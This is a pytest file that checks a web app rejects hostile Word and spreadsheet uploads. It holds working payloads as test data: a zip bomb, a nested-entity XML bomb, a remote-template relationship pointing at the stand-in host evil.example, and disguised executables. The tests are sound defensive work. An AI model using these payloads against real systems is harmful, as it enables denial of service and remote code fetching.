"""Files that are sent here are hostile: each is refused in words, quickly and in little memory, or taken harmless."""

import tracemalloc
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest

_DTD = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><a>&b;</a>'
_REMOTE = (
    b'<Relationship Id="rId99" TargetMode="External" Target="file://evil.example/share/a.dotm" Type="http://schemas.'
    b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)
_MEMORY = 300 * 1024**2
PATHS = ("/harvest", "/begin/import")


def with_part(built: bytes, name: str, change) -> bytes:
    """Return a document with another part in one's place."""
    out = BytesIO()
    with ZipFile(BytesIO(built)) as before, ZipFile(out, "w", ZIP_DEFLATED) as after:
        for one in before.infolist():
            data = before.read(one)
            after.writestr(one.filename, change(data) if one.filename == name else data)
    return out.getvalue()


def bomb(data: bytes) -> bytes:
    return data.replace(b"</w:body>", b"<w:p/>" * 15_000_000 + b"</w:body>")


@pytest.fixture
def built(page) -> bytes:
    page.state()
    return page.browser.get("/out/docx").content


@pytest.mark.parametrize("path", PATHS)
def test_document_that_swells_is_refused_in_little_memory(page, built, path):
    data = with_part(built, "word/document.xml", bomb)
    assert len(data) < 1024**2
    tracemalloc.start()
    answer = page.send(path, data, name="a.docx", version=page.state()["version"])
    most = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert (answer.status_code, bool(answer.json()["says"])) == (422, True)
    assert most < _MEMORY


@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize("part", ["word/document.xml", "word/styles.xml"])
def test_document_that_defines_entities_is_refused(page, built, path, part):
    data = with_part(built, part, lambda _data: _DTD)
    answer = page.send(path, data, name="a.docx", version=page.state()["version"])
    assert (answer.status_code, bool(answer.json()["says"])) == (422, True)


def test_document_that_leads_elsewhere_leads_nowhere_from_here(page, built):
    data = with_part(built, "word/_rels/document.xml.rels", lambda data: data.replace(b"</Relationships>", _REMOTE))
    page.send("/harvest", data, name="a.docx", version=page.state()["version"])
    page.post("/harvest/take", {"version": page.state()["version"]})
    with ZipFile(BytesIO(page.browser.get("/out/docx").content)) as made:
        assert all(b"evil" not in made.read(one) for one in made.namelist())
    assert all(b"evil" not in one.read_bytes() for one in page.plan.parent.rglob("*") if one.is_file())


@pytest.mark.parametrize("path", [*PATHS, "/table"])
@pytest.mark.parametrize("name", ["a.exe", "a.docx.lnk", "a.docm", ""])
def test_file_of_another_kind_is_refused_before_anything_reads_it(page, monkeypatch, path, name):
    for reader in ("exchange.Exchange.look", "exchange.Exchange.table", "room.Room.bring"):
        monkeypatch.setattr(f"fangan_page.{reader}", None)
    answer = page.send(path, b"MZ", name=name, version=page.state()["version"])
    assert (answer.status_code, bool(answer.json()["says"])) == (422, True)


@pytest.mark.parametrize("name", ["a.xlsx", "a.csv"])
def test_table_that_is_no_table_is_refused(page, built, name):
    answer = page.send("/table", built if name == "a.xlsx" else b"\x00\xff", name=name, version=page.state()["version"])
    assert (answer.status_code, bool(answer.json()["says"])) == (422, True)
